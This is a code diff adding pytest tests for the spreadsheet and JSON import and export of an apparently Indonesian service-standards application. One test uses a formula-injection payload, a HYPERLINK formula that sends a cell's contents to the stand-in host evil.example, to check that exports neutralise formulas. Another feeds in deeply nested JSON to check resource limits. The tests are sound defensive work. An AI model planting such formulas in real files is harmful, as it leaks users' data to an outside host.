@@ -22,6 +22,7 @@ from desk.store.access import AccessDenied, Actor
 from desk.store.database import Database, open_database
 from desk.store.models import AuditEntry, Forum, Service, StandardVersion, Unit
 from desk.store.users import add_officer
+from tests.formats.xlsx_files import set_dimension
 
 
 @pytest.fixture
@@ -223,3 +224,96 @@ def test_only_an_admin_imports_or_exports(db: Database, tmp_path: Path) -> None:
         exports = session.scalars(select(AuditEntry.details).where(AuditEntry.action == "data.export")).all()
         assert session.scalar(select(func.count()).select_from(StandardVersion)) == 19
     assert exports == [{"berkas": "x.json", "jenis": "json", "layanan": 19, "versi": 19}]
+
+
+# --- hostile and damaged files ---------------------------------------------------------------------
+
+
+def exported_workbook(db: Database, path: Path) -> Path:
+    with db.write() as session:
+        standards_io.export_file(session, path, write_standards_file)
+    return path
+
+
+def test_a_workbook_with_a_stale_dimension_imports_every_row(db: Database, tmp_path: Path) -> None:
+    workbook = exported_workbook(db, tmp_path / "standar.xlsx")
+    book = load_workbook(workbook)
+    sheet = book["Standar Pelayanan"]
+    p1 = [c.value for c in sheet[2]]
+    sheet.append(["P9", "PNP", "Layanan Percobaan", *p1[3:]])
+    book.save(workbook)
+    set_dimension(workbook, "A1:W20")  # as some generators leave it: row 21 outside
+    stale = load_workbook(workbook, read_only=True)
+    assert sum(1 for _ in stale["Standar Pelayanan"].iter_rows()) == 20  # what the old import read
+    stale.close()
+    with db.write() as session:
+        report = standards_io.import_file(session, read_standards_file(workbook))
+    assert report.services_created == ("P9",) and report.versions_added == (("P9", 1),)
+
+    set_dimension(workbook, "A1")
+    with db.write() as session:
+        again = standards_io.import_file(session, read_standards_file(workbook))
+    assert again.changes == 0 and len(again.unchanged) == 20  # no false "Kolom ... tidak ada"
+
+
+def test_formulas_in_a_file_are_exported_as_text_and_the_export_imports_unchanged(db: Database,
+                                                                                  tmp_path: Path) -> None:
+    hostile_name = '=HYPERLINK("http://evil.example/?d="&D2,"Klik untuk memperbarui")'
+    data = json.loads(export_text(db))
+    p1 = data["services"][0]
+    p1["name"] = hostile_name
+    p1["versions"][0]["notes"] = "=1+1"
+    p1["versions"][0]["requirements"][0] = "@SUM(A1:A9)"
+    source = tmp_path / "serangan.json"
+    source.write_text(json.dumps(data), encoding="utf-8")
+    with db.write() as session:
+        standards_io.import_file(session, read_standards_file(source))
+    workbook = exported_workbook(db, tmp_path / "ekspor.xlsx")
+    sheet = load_workbook(workbook)["Standar Pelayanan"]
+    headings = [c.value for c in sheet[1]]
+    name = sheet.cell(2, headings.index("Nama Layanan") + 1)
+    notes = sheet.cell(2, headings.index("Keterangan") + 1)
+    assert (name.value, name.data_type) == (hostile_name, "s") and name.quotePrefix
+    assert (notes.value, notes.data_type) == ("=1+1", "s")
+    with db.write() as session:
+        report = standards_io.import_file(session, read_standards_file(workbook))
+    assert report.changes == 0 and len(report.unchanged) == 19
+    assert json.loads(export_text(db))["services"][0]["name"] == hostile_name
+
+
+def test_merged_unit_cells_are_read_down_the_rows(db: Database, tmp_path: Path) -> None:
+    workbook = exported_workbook(db, tmp_path / "standar.xlsx")
+    book = load_workbook(workbook)
+    sheet = book["Standar Pelayanan"]
+    assert [sheet.cell(r, 2).value for r in range(2, 5)] == ["PNP", "PNP", "PNP"]
+    sheet.merge_cells("B2:B4")  # the unit written once for P1, P2 and P3
+    book.save(workbook)
+    with db.write() as session:
+        report = standards_io.import_file(session, read_standards_file(workbook))
+    assert report.changes == 0 and len(report.unchanged) == 19
+
+
+def test_a_formula_without_a_saved_value_is_refused_at_its_cell(db: Database, tmp_path: Path) -> None:
+    workbook = exported_workbook(db, tmp_path / "standar.xlsx")
+    book = load_workbook(workbook)
+    sheet = book["Standar Pelayanan"]
+    column = [c.value for c in sheet[1]].index("Keterangan") + 1
+    sheet.cell(3, column).value = '=CONCAT(C3," (baru)")'  # saved by a program that does not calculate
+    book.save(workbook)
+    with pytest.raises(ImportRejected) as caught:
+        read_standards_file(workbook)
+    problem = caught.value.problems[0]
+    assert (problem.row, problem.column) == (3, "S")
+    assert problem.text().startswith("Lembar Standar Pelayanan, baris 3, kolom S: Sel berisi rumus")
+
+
+def test_too_many_services_and_too_deep_json_are_refused_before_anything_is_checked(tmp_path: Path) -> None:
+    from tests.formats.xlsx_files import write_workbook
+
+    rows = [["Kode Layanan", "Kode Bidang", "Nama Layanan"]] + [[f"X{n}", "PNP", "Layanan"] for n in range(1001)]
+    with pytest.raises(ImportRejected, match=r"paling banyak 1000 layanan\."):
+        read_standards_file(write_workbook(tmp_path / "banyak.xlsx", rows, "Standar Pelayanan"))
+    deep = tmp_path / "dalam.json"
+    deep.write_bytes(b"[" * 100_000)
+    with pytest.raises(ImportRejected, match="bersarang terlalu dalam"):
+        read_standards_file(deep)
